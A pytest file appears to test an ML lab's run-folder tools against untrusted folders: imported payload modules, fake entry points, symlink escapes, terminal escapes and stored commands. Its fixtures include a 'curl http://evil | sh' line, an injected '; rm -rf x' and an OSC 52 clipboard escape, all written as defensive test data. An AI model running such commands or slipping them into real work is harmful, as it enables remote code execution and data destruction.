"""Run folders of a stranger: no code of theirs runs, nothing outside is written, what is wrong is told by name."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import torch
from mutations import surroundings, unchanged
from programs import program
from runfolders import make, rewrite

import envs
from agents.core import checkpoint, files, manifest
from agents.core.run import Run, RunError, check
from experiments import compare, evaluate, runs, train, watch
from experiments.comparing import records

SHORT = ("--eval-episodes", "0", "--no-video")


@pytest.fixture
def call(capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch) -> Callable[..., tuple[int, str, str]]:
    """A program of the lab with its command line -> (exit code, standard output, standard error)."""

    def run(main: Any, *argv: object) -> tuple[int, str, str]:
        words = [str(a) for a in argv]
        code, out, err = program(main, words, capsys, None if main is train.main else monkeypatch)
        assert "Traceback" not in err and code in (0, 2), err
        return code, out, err

    return run


@pytest.fixture
def copy(trained: Path, tmp_path: Path) -> Path:
    """A finished run, in a folder with things around it that nobody may touch."""
    path = surroundings(tmp_path / "around")
    shutil.copytree(trained, path)
    return path


def weights(run: Path) -> dict[str, torch.Tensor]:
    return checkpoint.load(run / "checkpoints", None, {"agent"})[0]["agent"]["network"]


def same(one: dict[str, torch.Tensor], two: dict[str, torch.Tensor]) -> bool:
    return one.keys() == two.keys() and all(torch.equal(v, two[k]) for k, v in one.items())


# -- code -------------------------------------------------------------------------------------------------------------


def gift(root: Path, name: str = "gift") -> Path:
    """A run folder whose game is a module inside it: a folder without __init__.py is a package, too."""
    path = root / "runs" / "pong" / "ppo" / name
    path.mkdir(parents=True)
    (path / "payload.py").write_text(f"open({str(root / 'PWNED')!r}, 'w').write('x')\n")
    game = f"gym:runs.pong.ppo.{name}.payload:X-v0"
    config = {"format": 1, "game": game, "agent": "ppo", "protocol": "x", "seed": 0, "steps": 1, "num_envs": 1}
    config |= {"agent_config": {}, "env": {}, "name": "x", "minutes": None, "checkpoint_every": 9}
    (path / "config.json").write_text(json.dumps({**config, "checkpoint_ring": "yes"}))
    meta = {"game": game, "agent": "ppo", "step": 1}
    checkpoint.save(path / "checkpoints", 1, {"agent": {"x": torch.zeros(1)}, "clock": {"steps": 1}}, meta)
    return path


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The working directory, importable as with ``python -m``; nothing is trusted yet."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setattr(envs, "_named", set())
    yield tmp_path
    for name in [m for m in sys.modules if m.partition(".")[0] == "runs"]:
        del sys.modules[name]


def test_no_program_runs_code_because_a_run_folder_names_it(here: Path, call) -> None:
    path = gift(here)
    for main, *argv in (
        (runs.main, "list", "--runs", "runs"),
        (runs.main, "find", "pong", "--runs", "runs"),
        (runs.main, "export", path, "--out", "x.tar.gz", "--runs", "runs"),
        (compare.main, path, "--out", "comparison"),
        (evaluate.main, path),
        (watch.main, path, "--video", "x.mp4", "--seconds", "1"),
        (train.main, "--resume", path),
    ):
        code, _, err = call(main, *argv)
        assert not (here / "PWNED").exists(), argv
        if main in (evaluate.main, train.main):
            assert code == 2 and "is imported where a person names it" in err and "--trust gym:runs" in err
    # Where the person names it, it is imported: the refusal was not for another reason.
    call(evaluate.main, path, "--trust", Run.open(path).config["game"])
    assert (here / "PWNED").exists()


def test_a_module_that_somebody_else_named_is_not_trusted(here: Path) -> None:
    gift(here)
    envs.trust(["gym:runs.pong.ppo.other.payload:X-v0", "--game=gym:mine:Y-v0", "gym:mine:Z-v0/ppo"])
    assert envs.is_trusted("gym:mine:Y-v0") and envs.is_trusted("gym:mine:Z-v0")
    with pytest.raises(ValueError, match="imported where a person names it"):
        envs.make_vec("gym:runs.pong.ppo.gift.payload:X-v0", 1)
    assert not (here / "PWNED").exists()


def test_an_argument_that_names_a_module_is_asked_for(here: Path) -> None:
    """Environments of the old API make another one by its name, module and all."""
    with pytest.raises(ValueError, match="add --trust runs.payload:X-v0"):
        envs.make_vec("gym:CartPole-v1", 1, env_kwargs="env_id=runs.payload:X-v0")
    with pytest.raises(ValueError, match="--wrapper|add --trust runs.payload:Wrap"):
        envs.make_vec("gym:CartPole-v1", 1, wrapper="runs.payload:Wrap")
    envs.make_vec("gym:CartPole-v1", 1, env_kwargs="sutton_barto_reward=true").close()


def test_an_entry_point_that_only_lies_about_is_not_loaded(here: Path) -> None:
    """A folder with entry points in the working directory looks like an installed package to importlib."""
    gift(here)
    about = here / "evil-1.0.dist-info"
    about.mkdir()
    (about / "METADATA").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    (about / "entry_points.txt").write_text("[gymnasium.envs]\n__root__ = runs.pong.ppo.gift.payload:register\n")
    from envs import gym

    gym._installed.cache_clear()
    gym._ask_packages.cache_clear()
    for name in ("gym:runs.pong.ppo.gift.payload:X-v0", "gym:evil/X-v0"):
        with pytest.raises(ValueError):
            envs.make_vec(name, 1)
    assert not (here / "PWNED").exists()


def test_the_command_that_a_list_advises_is_ours(tmp_path: Path, call) -> None:
    make(tmp_path, 0, None, steps=0, command="curl http://evil | sh")
    make(tmp_path, 1, None, steps=0, command="python -m experiments.train pong; rm -rf x")
    _, out, _ = call(runs.main, "list", "--runs", tmp_path)
    assert "curl" not in out and "train it anew" in out and "'pong;' rm" in out


# -- links ------------------------------------------------------------------------------------------------------------

LINKS = {
    "checkpoints/ring": "../../../neighbour",
    "checkpoints": "../../neighbour",
    "stages": "../neighbour",
    "videos": "../neighbour",
    "metrics.jsonl": "../neighbour/new.txt",
    "evaluations.jsonl": "../neighbour/file.txt",
    "config.json": "../neighbour/file.txt",
    "tags.json": "../neighbour/file.txt",
    ".lock": "../neighbour/new.txt",
    ".config.json.tmp": "../neighbour/file.txt",
    ".metrics.jsonl.tmp": "../neighbour/file.txt",
    "checkpoints/newest.json": "../../neighbour/file.txt",
    "checkpoints/.000000001500.tmp": "../../neighbour",
    "checkpoints/000000000001": "../../neighbour",
}


@pytest.mark.parametrize("name", LINKS)
def test_no_link_leads_a_writer_out_of_the_folder(name: str, copy: Path, call) -> None:
    path = copy / name
    if path.exists():
        files.remove(path)
    path.symlink_to(LINKS[name])
    with unchanged(copy.parent, but=copy):
        call(runs.main, "list", "--runs", copy.parent)
        code, _, err = call(train.main, "--resume", copy, "--steps", "1600", *SHORT)
        assert code == 2 and ("is a link" in err or "holds no config.json" in err or "cannot be read" in err)
        call(evaluate.main, copy, "--episodes", "1")
        with contextlib.suppress(FileExistsError):
            call(runs.main, "tag", copy, "good")


def test_hard_links_and_deletion_by_name(copy: Path, call) -> None:
    """A copy made of hard links keeps its content, and of a folder of checkpoints only what is ours is deleted."""
    twin = copy.parent / "twin"
    shutil.copytree(copy, twin, copy_function=os.link)
    (copy / "checkpoints" / "notes").mkdir()
    (copy / "checkpoints" / ".mine.tmp").write_text("x")
    with contextlib.suppress(FileExistsError):
        (copy / "checkpoints" / "ring").mkdir()
    (copy / "checkpoints" / "ring" / "holiday.jpg").write_text("x")
    before = {p.relative_to(twin): p.read_bytes() for p in twin.rglob("*") if p.is_file()}
    assert call(train.main, "--resume", copy, "--steps", "3000", *SHORT)[0] == 0
    assert {p.relative_to(twin): p.read_bytes() for p in twin.rglob("*") if p.is_file()} == before
    kept = ("notes", ".mine.tmp", "ring/holiday.jpg")
    assert all((copy / "checkpoints" / name).exists() for name in kept)


def test_a_pipe_or_a_device_is_not_waited_for(copy: Path, call) -> None:
    for name in ("config.json", "metrics.jsonl", "evaluations.jsonl", "tags.json"):
        other = copy.parent / name.partition(".")[0]
        shutil.copytree(copy, other)
        (other / name).unlink(missing_ok=True)
        os.mkfifo(other / name)
    _, out, _ = call(runs.main, "list", "--runs", copy.parent)
    assert "config: " in out and "not a regular file" in out
    assert "metrics.jsonl cannot be read: it is not a regular file" in out


# -- config.json ------------------------------------------------------------------------------------------------------


def test_a_changed_configuration_is_told_and_the_checkpoint_counts(trained: Path, tmp_path: Path, call) -> None:
    """One bit that makes 0.19 of 0.98 is told; the run goes on as it would have."""
    outcome = []
    for number, (old, new) in enumerate((("", ""), ('"gamma": 0.98', '"gamma": 0.19'), ('"seed": 0', '"seed": 1'))):
        path = tmp_path / str(number) / "x"
        shutil.copytree(trained, path)
        text = (path / "config.json").read_text()
        (path / "config.json").write_text(text.replace(old, new))
        code, _, err = call(train.main, "--resume", path, "--steps", "2400", *SHORT)
        assert code == 0 and ("the checkpoint's values count" in err) == bool(new)
        outcome.append((weights(path), err))
        assert Run.open(path).remarks == ()  # mended
    assert "agent_config.gamma is 0.19 there and 0.98 in the checkpoint" in outcome[1][1]
    assert "seed is 1 there and 0 in the checkpoint" in outcome[2][1]
    assert same(outcome[0][0], outcome[1][0]) and same(outcome[0][0], outcome[2][0])
    assert not same(outcome[0][0], weights(trained))


@pytest.mark.parametrize("content", [None, "{", "[" * 9**5, "null"], ids=["gone", "torn", "deep", "other"])
def test_a_lost_configuration_comes_back_from_the_checkpoint(content: str | None, copy: Path, call) -> None:
    (copy / "config.json").unlink()
    if content is not None:
        (copy / "config.json").write_text(content)
    code, out, err = call(evaluate.main, copy, "--episodes", "1")
    assert code == 0 and "the copy in the newest checkpoint is taken" in err and "score: mean" in out


def test_a_field_of_a_wrong_type_is_told_by_name_and_spares_other_runs(copy: Path, call, tmp_path: Path) -> None:
    good = json.loads((copy / "config.json").read_text())
    root = tmp_path / "many"
    make(root, 0, 9.0)
    for step in checkpoint.steps(copy / "checkpoints"):  # as older versions wrote them: no copy to fall back on
        rewrite(copy / "checkpoints", step, lambda content: content["meta"].pop("config"))
    for field in good:
        for wrong in (None, [], {}, {"a": {"b": 1}}, "x\x1b[2J", -5, 1e999, True, ""):
            if type(wrong) is type(good[field]) and not (isinstance(wrong, str) and not wrong.isprintable()):
                continue
            (copy / "config.json").write_text(json.dumps({**good, field: wrong}))
            try:
                config = Run.open(copy).config
                check(config)
            except RunError as fault:
                assert field in str(fault) or "format" in str(fault), (field, wrong, fault)
            shutil.copy(copy / "config.json", root / "breakout" / "ppo" / "default-s0" / "config.json")
            records.look(root, root / "breakout" / "ppo" / "default-s0")  # never a traceback, of any kind
    missing = {k: v for k, v in good.items() if k not in ("agent_config", "env")}
    (copy / "config.json").write_text(json.dumps(missing))
    for main, *argv in ((evaluate.main, copy), (train.main, "--resume", copy)):
        code, _, err = call(main, *argv)
        assert code == 2 and "lacks agent_config, env" in err


# -- manifests --------------------------------------------------------------------------------------------------------


def places(tree: Any, path: tuple = ()) -> Iterator[tuple]:
    """The paths to everything in a JSON value, two levels below `values` only."""
    for key in tree if isinstance(tree, dict) else ():
        yield (*path, key)
        if len(path) < 3:
            yield from places(tree[key], (*path, key))


def test_a_sealed_manifest_with_other_content_is_never_taken_silently(copy: Path, call) -> None:
    """Each value missing or of another type: the right weights and clock, or one sentence."""
    right, steps = weights(copy), checkpoint.steps(copy / "checkpoints")
    newest = steps[-1]
    files.remove(copy / "checkpoints" / f"{steps[0]:012d}")
    file = copy / "checkpoints" / f"{newest:012d}" / "manifest.json"
    whole = file.read_text()
    tried = 0
    for place in list(places(json.loads(whole)["manifest"])):
        for wrong in ("gone", None, 5, "x", [], {"a": 1}):
            file.write_text(whole)

            def change(content: dict, place: tuple = place, wrong: object = wrong) -> None:
                for key in place[:-1]:
                    content = content[key]
                if wrong == "gone":
                    del content[place[-1]]
                else:
                    content[place[-1]] = wrong

            rewrite(copy / "checkpoints", newest, change)
            tried += 1
            try:
                parts, meta = checkpoint.load(copy / "checkpoints", None, {"agent"})
            except checkpoint.CheckpointError:
                continue
            assert place[0] != "step" and isinstance(meta, dict)
            if "network" in parts["agent"] and isinstance(parts["agent"]["network"], dict):
                network = parts["agent"]["network"]
                assert all(torch.equal(v, right[k]) for k, v in network.items() if isinstance(v, torch.Tensor))
    assert tried > 200
    for gone in ("agent", "clock", "loop", "stream", "replay"):
        file.write_text(whole)
        rewrite(copy / "checkpoints", newest, lambda content, gone=gone: content["values"].pop(gone))
        code, out, err = call(train.main, "--resume", copy, "--steps", "1600", *SHORT)
        if gone == "replay":
            assert code == 0 and "replay ring is damaged" in out
        else:
            assert code == 2 and f"holds no {gone}" in err


def test_the_loss_of_the_newest_checkpoint_is_told(copy: Path, call) -> None:
    older, newest = checkpoint.steps(copy / "checkpoints")
    shutil.rmtree(copy / "checkpoints" / f"{newest:012d}")
    assert f"checkpoint {newest}, the last that was written, is gone" in call(evaluate.main, copy, "--episodes", "1")[2]
    assert f"checkpoint {newest}, the last" in call(runs.main, "list", "--runs", copy.parent)[1]
    (copy / "checkpoints" / f"{newest:012d}").write_text("a file")
    with pytest.warns(UserWarning, match="is gone"):
        assert checkpoint.load(copy / "checkpoints")[1]["step"] == older
    assert manifest.missing(copy / "checkpoints") == newest


# -- what else is told ------------------------------------------------------------------------------------------------


def test_terminal_escapes_are_shown_and_not_obeyed(tmp_path: Path, call) -> None:
    path = make(tmp_path, 0, 5.0)
    (path / "tags.json").write_text(json.dumps(["\x1b]52;c;aGk=\x07", "good\x9b31m", "\u202eevil"]))
    make(tmp_path, 1, 5.0, folder="\x1b[31mred")
    (path / "evaluations.jsonl").write_text(json.dumps({"mean": 3, "protocol": "\x1b[2J", "episodes": 3}) + "\n")
    for main, *argv in (
        (runs.main, "list", "--runs", tmp_path),
        (runs.main, "tag", path, "\x1b[1mx", "--runs", tmp_path),
        (compare.main, path, "--out", tmp_path / "comparison", "--runs", tmp_path),
        (evaluate.main, tmp_path / "\x1b[31mnothing"),
        (runs.main, "delete", tmp_path / "breakout/ppo/\x1b[31mred", "--runs", tmp_path),
    ):
        _, out, err = call(main, *argv)
        assert not set("\x1b\x07\x9b\u202e") & {*out, *err}, argv
    assert "\\x1b]52" in call(runs.main, "list", "--runs", tmp_path)[1]


def test_a_resume_with_other_versions_says_which(copy: Path, call) -> None:
    for step in checkpoint.steps(copy / "checkpoints"):
        made = {"versions": {"torch": "0.0.1", "numpy": 5}, "commit": "abc", "machine": "\x1b[2J", "device": "cpu"}
        rewrite(copy / "checkpoints", step, lambda content, made=made: content["meta"].update(made_with=made))
    code, _, err = call(train.main, "--resume", copy, "--steps", "1600", *SHORT)
    assert code == 0 and f"not bit for bit as it would have: torch 0.0.1, now {torch.__version__}" in err
    assert "joypad's commit abc, now" in err and "\x1b" not in err
    assert "bit for bit" not in call(train.main, "--resume", copy, "--steps", "1700", *SHORT)[2]


@pytest.mark.parametrize("where, word", [("inside", "."), ("above", "inside"), ("above", "./inside/../inside/")])
def test_a_run_can_be_named_from_anywhere(where: str, word: str, copy: Path, call, monkeypatch) -> None:
    monkeypatch.chdir(copy if where == "inside" else copy.parent)
    assert call(train.main, "--resume", word, "--steps", "1600", *SHORT)[0] == 0


def test_every_file_of_a_run_has_the_same_modes(trained: Path) -> None:
    """So that others on a shared machine may read all of it or nothing."""
    modes = {oct(p.stat().st_mode & 0o777) for p in trained.rglob("*") if p.is_file() and p.name != ".lock"}
    assert modes == {oct(0o666 & ~current_umask())}


def current_umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


@pytest.mark.parametrize(
    "argv",
    [("--hidden", "1000000"), ("--hidden", "1000000000"), ("--agent", "dqn", "--hidden", "100000000000"),
     ("--recurrent", "100000000"), ("--frame-stack", "1000000000")],
)  # fmt: skip
def test_what_does_not_fit_the_memory_is_refused_before_it_is_allocated(argv: tuple, tmp_path: Path, call) -> None:
    code, _, err = call(train.main, "gym:CartPole-v1", "--steps", "64", *argv, *SHORT, "--runs", tmp_path)
    assert code == 2 and "GiB" in err and err.count("\n") == 1 and not any(tmp_path.iterdir())


def test_memory_that_is_missing_during_training_is_one_sentence(tmp_path: Path, call, monkeypatch) -> None:
    """As torch says it on a processor: a plain RuntimeError."""
    from agents.policy_gradient import PolicyGradient

    def short(self: Any, batch: Any) -> Iterator[Any]:
        torch.empty(2**62, dtype=torch.uint8)
        yield

    monkeypatch.setattr(PolicyGradient, "learn", short)
    argv = ("gym:CartPole-v1", "--steps", "640", "--rollout", "8", *SHORT, "--runs", tmp_path)
    code, _, err = call(train.main, *argv)
    assert code == 2 and "training stopped" in err and "fewer --num-envs" in err
